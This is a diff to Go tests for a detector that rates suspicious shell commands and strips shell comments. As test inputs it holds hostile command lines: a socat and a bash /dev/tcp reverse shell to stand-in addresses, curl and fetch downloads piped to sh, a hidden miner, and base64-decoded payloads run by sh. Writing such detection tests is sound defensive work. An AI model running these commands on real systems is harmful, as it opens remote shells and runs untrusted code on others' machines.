@@ -45,11 +45,36 @@ func TestSuspiciousCommand(t *testing.T) {
 		{"a miner that hides", "/var/tmp/.x/xmrig -o pool:3333", detect.Critical},
 		{"socat that serves a program", "/usr/bin/socat TCP-LISTEN:2000,fork,reuseaddr EXEC:/usr/local/bin/meter", detect.Info},
 		{"socat that serves a shell", `socat TCP:203.0.113.5:4444 EXEC:"bash -li",pty,stderr`, detect.Critical},
+		{"encoded, and harmless", "echo ZGF0ZSA+IC92YXIvbG9nL2hi | base64 -d | sh", detect.Low},
+		{"encoded twice", "echo ZWNobyBaR0YwWlE9PSB8IGJhc2U2NCAtZCB8IHNo | base64 -d | sh", detect.Critical},
+		{"encoded, with another file", "echo L29wdC94 | base64 -d | sh", detect.Critical},
+		{"encoded, with something behind", "echo ZGF0ZQ== | base64 -d | sh; sh /opt/x", detect.Critical},
+		{"encoded, from a file", "cat /opt/x | base64 -d | sh", detect.Critical},
 		{"fetched by BSD's fetch", "fetch http://203.0.113.9/x && chmod +x x", detect.High},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			if why, got := detect.SuspiciousCommand(tc.command); got != tc.want {
 				t.Errorf("%s: %v (%s), want %v", tc.command, got, why, tc.want)
+			}
+		})
+	}
+}
+
+// TestUncommented: what a shell does not read is cut off, and nothing else.
+func TestUncommented(t *testing.T) {
+	for _, tc := range []struct{ name, command, want string }{
+		{"a comment", "/bin/true # bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/bin/true "},
+		{"a hash within a word", "curl http://203.0.113.9/#x | sh", "curl http://203.0.113.9/#x | sh"},
+		{"a hash in quotes", `echo " # " | sh`, `echo " # " | sh`},
+		{"a quote that is escaped", `echo \" # x`, `echo \" `},
+		{"an escaped quote in quotes", `echo "\" # " | sh`, `echo "\" # " | sh`},
+		{"lines that cron makes of %", "sh # %bash -i", "sh # %bash -i"},
+		{"lines", "true # x\nbash", "true # x\nbash"},
+		{"an escaped hash", `echo \# | sh`, `echo \# | sh`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			if got := detect.Uncommented(tc.command); got != tc.want {
+				t.Errorf("%q, want %q", got, tc.want)
 			}
 		})
 	}
